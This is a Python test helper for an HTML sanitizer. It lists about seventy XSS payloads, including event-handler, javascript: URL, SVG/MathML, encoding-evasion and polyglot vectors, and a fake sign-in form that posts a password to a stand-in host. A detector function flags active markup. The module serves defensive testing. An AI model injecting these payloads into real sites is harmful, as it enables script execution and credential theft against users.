"""Words that want to become scripts: our own, and what tells a cleaned piece of markup from an active one."""

from __future__ import annotations

import re

from lxml import html

# Where a payload that ran would call; no test answers there.
ELSEWHERE = "https://elsewhere.invalid/"
_RUN = "alert(1)"
PAYLOADS: tuple[str, ...] = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT\t>",
    f'<script src="{ELSEWHERE}x.js"></script>',
    f"<script\x0c>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"'\"><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'//",
    f"<img/src=x/onerror={_RUN}>",
    f'<img src="x` onerror={_RUN}`">',
    f"<img src='{ELSEWHERE}pixel.png'>",
    f"<img srcset='{ELSEWHERE}a.png 1x'>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}/>#x'/></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='JaVaScRiPt:{_RUN}'>x</a>",
    f"<a href='java\tscript:{_RUN}'>x</a>",
    f"<a href='&#106;avascript:{_RUN}'>x</a>",
    f"<a href=' &#14; javascript:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<a href='vbscript:{_RUN}'>x</a>",
    f"<a href=x onclick={_RUN} onmouseover={_RUN} onfocus={_RUN} autofocus>x</a>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src='{ELSEWHERE}'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<object data='{ELSEWHERE}x.swf'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<base href='{ELSEWHERE}'>",
    f"<link rel=stylesheet href='{ELSEWHERE}x.css'>",
    f"<link rel=prefetch href='{ELSEWHERE}'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<style>@import '{ELSEWHERE}x.css';</style>",
    f"<p style='background:url({ELSEWHERE}x.png)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>cover</p>",
    f"<form action='{ELSEWHERE}'><input name=password><button>Sign in</button></form>",
    f"<button formaction='javascript:{_RUN}' form=x>x</button>",
    f"<input onfocus={_RUN} autofocus>",
    f"<select onfocus={_RUN} autofocus><option>x</select>",
    f"<textarea onfocus={_RUN} autofocus>x</textarea>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video src=x onerror={_RUN}></video>",
    f"<audio src='{ELSEWHERE}x.mp3' autoplay onerror={_RUN}></audio>",
    f"<video poster='{ELSEWHERE}x.png'></video>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<body onload={_RUN} onpageshow={_RUN}>",
    f"<div hx-get='/health/' hx-trigger=load hx-on:htmx:load='{_RUN}'>x</div>",
    "<div data-hx-post='/sources/create/' data-hx-trigger='load'>x</div>",
    f"<div id=main class=btn onanimationstart={_RUN}>x</div>",
    f"<xss contenteditable onfocus={_RUN} autofocus tabindex=1>x</xss>",
    "{{ 7*7 }}{% debug %}${7*7}#{7*7}",
    f"\u003cscript\u003e{_RUN}\u003c/script\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"javascript:{_RUN}",
    f"jAvAsCrIpT:/*-/*`/*'/*\"/**/(/* */{_RUN} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd={_RUN}//>",
)
_FORBIDDEN_TAGS = frozenset(
    [
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "select",
        "textarea",
        "link",
        "meta",
        "base",
        "svg",
        "math",
        "template",
        "noscript",
        "frame",
        "frameset",
        "applet",
        "audio",
        "video",
        "marquee",
        "body",
        "html",
        "head",
    ]
)
_LINKS = frozenset(
    {"href", "src", "srcset", "action", "formaction", "poster", "background", "data", "xlink:href"}
)
_HARMLESS_LINK = re.compile(r"(?:https?:|mailto:|[#/])", re.IGNORECASE)
_ALLOWED_ATTRIBUTES = re.compile(r"(?!on|hx-|data-|style\Z|class\Z|id\Z|srcset\Z|autofocus\Z)")


def active_parts(markup: str) -> list[str]:
    """What in a piece of stored markup could act, load or send; empty is good."""
    if not markup.strip():
        return []
    found = []
    for element in html.fragment_fromstring(markup, create_parent="div").iter():
        if not isinstance(element.tag, str):
            found.append(f"a comment or instruction: {element}")
            continue
        if element.tag in _FORBIDDEN_TAGS:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if not _ALLOWED_ATTRIBUTES.match(str(name)) or (
                str(name) in _LINKS and not _HARMLESS_LINK.match(str(value).strip())
            ):
                found.append(f"{element.tag} {name}={value}")
            elif str(name) == "src":
                found.append(f"{element.tag} loads {value}")
    return found
